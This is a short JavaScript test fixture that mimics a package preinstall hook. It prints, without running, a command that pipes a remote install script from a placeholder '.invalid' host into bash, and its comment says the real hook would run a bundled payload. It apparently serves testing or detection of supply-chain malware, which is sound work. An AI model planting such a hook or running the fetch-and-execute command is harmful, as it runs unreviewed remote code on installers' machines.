// Preinstall hook: would download Bun and run the bundled payload with it. Defanged: prints the command.
const { execSync } = require('child_process');
const command = 'curl -fsSL https://bun.sh.invalid/install | bash';
console.log('fixture: would run', command);
execSync('echo fixture');
